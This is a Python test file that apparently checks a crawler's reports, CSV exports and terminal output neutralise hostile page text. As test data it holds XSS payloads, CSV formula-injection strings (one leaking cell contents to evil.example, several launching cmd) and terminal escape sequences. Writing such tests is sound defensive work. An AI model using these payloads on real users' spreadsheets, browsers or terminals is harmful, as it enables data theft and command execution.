"""What agencywatch prints and writes carries page text safely (issue 20, items 3, 4, 5): the
Markdown report (and the Prefect artifact, the same rendering) escapes Markdown and HTML, CSV
cells a spreadsheet would evaluate are neutralised, and nothing printed to a terminal carries
control characters."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import lxml.html
import pytest
from markdown_it import MarkdownIt

from flows.run import extract_pool
from store.db import open_db
from store.report import render, render_md
from tests.hostile_server import HostileServer
from tests.test_store_history import crawl, news, page
from tests.test_views import run_cli

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
LINK = "[click](javascript:alert(3))"
AUTOLINK = "<javascript:alert(4)>"
HOSTILE = f"{SCRIPT} {IMG} {LINK} {AUTOLINK} *bold* _x_ `code`"
# ESC ] 0 ; ... BEL retitles a terminal; CSI (ESC [ or the C1 byte 0x9b) moves its cursor
TERMINAL = "\x1b]0;pwned\x07\x1b[2J\x9b31m\x08"


def _report(title: str, *, url: str | None = None, error: str = "") -> dict:
    return {
        "run": {
            "id": 7,
            "started_at": "2026-11-24T00:00:00+00:00",
            "finished_at": "2026-11-24T00:01:00+00:00",
            "status": "completed",
            "pages": {"fetched": 1, "not_modified": 0, "failed": 1},
            "items": {"added": 1, "updated": 1, "removed": 0},
        },
        "changes": [
            {"change": "added", "entity": "news", "source": "s", "url": url, "key": title,
             "title": title, "fields": {}},
            {"change": "updated", "entity": "news", "source": "s", "url": None, "key": "k",
             "title": "t", "reason": title,
             "fields": {"summary": {"old": f"old words {SCRIPT}", "new": f"new words {IMG}"},
                        "date": {"old": f"`{SCRIPT}`", "new": IMG}}},
        ],
        "failures": [{"url": "http://a.lt/x", "error": error or f"http://a.lt/x: HTTP 500 {IMG}"}],
    }


def _rendered(markdown: str) -> lxml.html.HtmlElement:
    """The Markdown as a renderer that lets raw HTML through shows it (CommonMark, html on)."""
    html = MarkdownIt("commonmark", {"html": True}).enable("strikethrough").render(markdown)
    return lxml.html.fragment_fromstring(html, create_parent="div")


def _assert_inert(root: lxml.html.HtmlElement) -> None:
    assert root.xpath("//script | //img | //iframe | //svg") == []
    assert [a for a in root.iter() for name in a.attrib if name.startswith("on")] == []
    hrefs = [a.get("href", "") for a in root.iter("a")]
    assert all(h.startswith(("http://", "https://")) for h in hrefs), hrefs


# -- item 3: Markdown ----------------------------------------------------------------------


def test_markdown_report_escapes_page_values():
    markdown = render_md(_report(HOSTILE, url="javascript:alert(5)"))
    root = _rendered(markdown)
    _assert_inert(root)
    text = root.text_content()
    assert SCRIPT in text and IMG in text and LINK in text  # shown, as text
    assert "*bold* _x_" in text


def test_markdown_report_links_only_web_urls():
    markdown = render_md(_report("News", url="https://www.klaster.lt/en/news/a?b=1&c=2"))
    hrefs = [a.get("href") for a in _rendered(markdown).iter("a")]
    assert hrefs == ["https://www.klaster.lt/en/news/a?b=1&c=2"]


def test_markdown_report_escapes_a_reason_phrase_in_failures():
    error = f"http://a.lt/x: HTTP 403 {SCRIPT}{LINK}"
    root = _rendered(render_md(_report("t", error=error)))
    _assert_inert(root)
    assert f"HTTP 403 {SCRIPT}{LINK}" in root.text_content()


def test_markdown_from_the_store_is_inert(tmp_path: Path):
    """The report of a real store (the Prefect artifact renders the same `render_md`)."""
    db = open_db(tmp_path / "s.db")
    evil = news(HOSTILE, slug="evil", summary=f"{LINK} {IMG}")
    crawl(db, page(evil, text=f"Body {SCRIPT}"))
    crawl(db, page(news(HOSTILE, slug="evil", summary=f"{SCRIPT} changed"), text=f"Body {IMG}"))
    from store.report import report_data

    markdown = render(report_data(db, "latest"), "md")
    _assert_inert(_rendered(markdown))


# -- item 4: CSV ---------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _store_with_titles(path: Path, titles: list[str]) -> None:
    db = open_db(path)
    crawl(db, page(*(news(t, slug=f"n{i}") for i, t in enumerate(titles))))
    db.close()


def test_csv_export_neutralises_formulas(tmp_path: Path, capsys):
    path = tmp_path / "s.db"
    _store_with_titles(path, [*FORMULAS, "Plain title", "3 million"])
    assert run_cli("export", "latest_news", "--db", str(path), "--output",
                   str(tmp_path / "n.csv")) == 0
    with open(tmp_path / "n.csv", encoding="utf-8", newline="") as f:
        titles = {row["title"] for row in csv.DictReader(f)}
    assert titles == {*("'" + t for t in FORMULAS), "Plain title", "3 million"}


def test_csv_export_keeps_numbers_as_numbers(tmp_path: Path):
    from store.export import export

    db = open_db(tmp_path / "s.db")
    crawl(db, page(news("-1 minus")))
    out = io.StringIO()
    export(db, "runs", out, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["id"] == "1" and rows[0]["items_added"] == "1"


# -- item 5: terminals ---------------------------------------------------------------------


def _assert_no_controls(text: str) -> None:
    bad = [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
    assert bad == [], repr(text)


def test_search_prints_no_control_characters(tmp_path: Path, capsys):
    path = tmp_path / "s.db"
    _store_with_titles(path, [f"Cluster funding {TERMINAL} news"])
    assert run_cli("search", "cluster", "--db", str(path)) == 0
    out = capsys.readouterr().out
    assert "Cluster funding" in out
    _assert_no_controls(out)
    assert run_cli("search", "cluster", "--db", str(path), "--json") == 0
    out = capsys.readouterr().out
    _assert_no_controls(out)
    assert json.loads(out)[0]["title"] == f"Cluster funding {TERMINAL} news"  # JSON: escaped


def test_csv_to_stdout_prints_no_control_characters(tmp_path: Path, capsys):
    path = tmp_path / "s.db"
    _store_with_titles(path, [f"Title {TERMINAL} end"])
    assert run_cli("export", "latest_news", "--db", str(path)) == 0
    out = capsys.readouterr().out
    assert "Title " in out
    _assert_no_controls(out)


def test_markdown_report_to_stdout_prints_no_control_characters(tmp_path: Path, capsys):
    path = tmp_path / "s.db"
    _store_with_titles(path, [f"Title {TERMINAL} end"])
    assert run_cli("report", "--db", str(path)) == 0
    out = capsys.readouterr().out
    assert "Title" in out
    _assert_no_controls(out)


def test_crawl_failed_lines_print_no_control_characters(tmp_path: Path, capsys, monkeypatch):
    from flows.cli.main import main

    monkeypatch.setenv(extract_pool.ENV, "0")
    with HostileServer() as site:
        site.route("/", status=404, reason=f"Not Found {TERMINAL}")
        sources = tmp_path / "sources.toml"
        sources.write_text(f'[[source]]\nname = "a"\nurl = "{site.url("/")}"\ndelay = 0\n')
        code = main(["crawl", "--local", "--progress", "off", "--sources", str(sources),
                     "--db", str(tmp_path / "s.db")])
    err = capsys.readouterr().err
    assert code == 1
    assert "failed: " in err and "HTTP 404 Not Found" in err
    _assert_no_controls(err)


@pytest.mark.parametrize("value", [TERMINAL, "a\x1b[31mred", "\x9b2J", "bell\x07"])
def test_terminal_text_keeps_what_it_can(value):
    from store.outputs import terminal_text

    shown = terminal_text(value)
    _assert_no_controls(shown)
    assert shown.replace("\\x1b", "").replace("\\x9b", "")  # something readable stays
